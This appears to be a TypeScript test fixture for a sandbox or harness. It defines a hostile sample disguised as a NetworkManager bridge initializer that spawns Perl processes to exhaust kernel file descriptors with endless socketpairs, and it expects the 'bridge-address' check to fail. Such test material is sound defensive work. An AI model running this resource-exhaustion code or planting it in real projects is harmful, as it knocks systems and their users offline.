import { defineHostile } from '../../hostile/define.ts'

export default defineHostile({
  tries: 'opens files, sockets and pipes until the kernel has none left.',
  must: { fail: ['bridge-address'] },
  code: `
import { leavePerl, pause } from '../kit/tools.ts'

export class NetworkManager {
  async initializeBridge() {
    for (let count = 0; count < 30; count++) leavePerl('use Socket; my @all; while (socketpair my $one, my $other, AF_UNIX, SOCK_STREAM, 0) { syswrite $one, "x" x 50000 if @all < 50; push @all, $one, $other } sleep 600')
    await pause(2000)
  }
}
`,
})
